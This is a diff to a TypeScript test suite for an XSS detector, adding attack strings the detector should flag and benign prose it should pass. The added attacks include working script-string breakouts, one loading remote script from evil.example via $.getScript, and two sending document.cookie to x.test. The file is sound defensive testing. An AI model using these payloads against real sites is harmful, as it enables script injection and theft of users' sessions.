@@ -70,6 +70,24 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['script URL with a string holding spaces', "javascript:alert('a b')"],
   ['script URL whose words meet past a comment', 'javascript:alert(1)//a b'],
   ['HTML in a data: URL', 'data:text/html,<script>alert(1)</script>'],
+  // A reviewer's payloads that ran in Chromium (2026-12-07), read in short and long values alike.
+  ['script-string breakout to an optional call', '"-alert?.(1)-"'],
+  ['script-string breakout to a call past a comment', "';alert/**/(1)//"],
+  ['script-string breakout to a name starting with _', '";__x()//'],
+  ['script-string breakout to a jQuery call', "';$.getScript('//evil.example/x.js')//"],
+  ['script-string breakout to new, stealing the cookie', "\";new Image().src='//x.test/?'+document.cookie//"],
+  ['script-string breakout by division', '"/alert?.(1)//'],
+  ['script-string breakout by comparison', '"==alert(1)//'],
+  ['quoted handler value opening with a space', '" onmouseover=" alert?.(1)'],
+  ['quoted handler value opening with a tab', "' onmouseover='\talert?.(1)"],
+];
+
+/** Read in short values only: a long value finds a breakout from the call it makes, and these make none there. */
+const SHORT_ONLY_ATTACKS: ReadonlyArray<readonly [string, string]> = [
+  ['onerror given a sink in a block, then a throw', "';{onerror=alert}throw 1//"],
+  ["an array literal's method given a sink", "'-[1].find(alert)-'"],
+  ['the location assigned, stealing the cookie', "\";location='//x.test/?'+document.cookie//"],
+  ['instanceof joining a call', '" instanceof alert(1)//'],
 ];
 
 const BENIGN = [
@@ -94,6 +112,11 @@ const BENIGN = [
   '<link-preview></link-preview>',
   '<iframe-wrapper src="/embed"></iframe-wrapper>',
   'data:text/csv;charset=utf-8,a,b,c',
+  // Quotes, then an operator spaced as prose spaces it: a breakout glues its name to `/ % ^ < >`.
+  "'50'% off (today)",
+  'He said "hi" < then(1)',
+  // A handler named in prose with a quoted value that is no code.
+  'the onload=" attribute"',
   'The script is written from right to left',
   'the onload event fires late',
   '"Dr. Who" and coffee',
@@ -166,7 +189,7 @@ const BENIGN = [
 ];
 
 describe('detectXss', () => {
-  for (const [name, value] of ATTACKS) {
+  for (const [name, value] of [...ATTACKS, ...SHORT_ONLY_ATTACKS]) {
     it(`detects ${name}`, () => {
       const verdict = detectXss(value);
       assert.equal(verdict.detected, true, value);
